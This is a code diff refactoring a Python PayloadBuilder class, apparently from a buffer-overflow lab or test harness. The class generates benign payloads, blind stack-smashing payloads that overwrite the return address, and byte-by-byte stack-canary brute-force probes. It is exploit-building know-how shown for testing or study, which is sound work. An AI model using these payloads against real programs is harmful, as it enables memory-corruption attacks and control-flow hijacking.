@@ -73,10 +73,14 @@ class PayloadBuilder:
     def __init__(self, frame: FrameMap, fill: bytes = b"A") -> None:
         self.frame = frame
         self.fill = fill
+        # Every payload is a prefix of one filler string (patched, for
+        # exploits), so it is built once per builder, not per payload.
+        length = max(frame.return_address_position + 8, frame.buffer_size)
+        self._filler = (fill * (length // len(fill) + 1))[:length]
+        self._probe_prefix = self._filled(frame.canary_region_start)
 
-    def _filled(self, length: int) -> bytearray:
-        repeats = (length // len(self.fill)) + 1
-        return bytearray((self.fill * repeats)[:length])
+    def _filled(self, length: int) -> bytes:
+        return self._filler[: max(length, 0)]
 
     def benign(self, length: Optional[int] = None) -> bytes:
         """A payload that stays inside the buffer."""
@@ -84,13 +88,12 @@ class PayloadBuilder:
             length = max(0, self.frame.buffer_size - 1)
         if length >= self.frame.buffer_size:
             raise ValueError("benign payload would overflow")
-        return bytes(self._filled(length))
+        return self._filled(length)
 
-    def smash(self, extra: int = 64) -> bytes:
-        """Blind overflow: fill straight through canaries and beyond."""
-        return bytes(self._filled(self.frame.return_address_position + 8 + extra))[
-            : self.frame.return_address_position + 8
-        ]
+    def smash(self) -> bytes:
+        """Blind overflow: fill straight through canaries, the saved
+        frame pointer and the return address."""
+        return self._filled(self.frame.return_address_position + 8)
 
     def probe(self, known: bytes, guess: int) -> bytes:
         """Byte-by-byte probe: overwrite ``len(known)+1`` canary bytes.
@@ -99,9 +102,7 @@ class PayloadBuilder:
         the candidate for the next byte.  Bytes above the guess are left
         untouched, so a correct guess leaves the canary region intact.
         """
-        payload = self._filled(self.frame.canary_region_start)
-        payload += known + bytes([guess])
-        return bytes(payload)
+        return self._probe_prefix + known + bytes((guess,))
 
     def with_canaries(
         self,
@@ -117,7 +118,7 @@ class PayloadBuilder:
         gets smashed — useful for negative tests).
         """
         length = self.frame.return_address_position + 8
-        payload = self._filled(length)
+        payload = bytearray(self._filled(length))
         for slot, value in canary_words.items():
             position = self.frame.slot_position(slot)
             payload[position : position + 8] = value.to_bytes(8, "little")
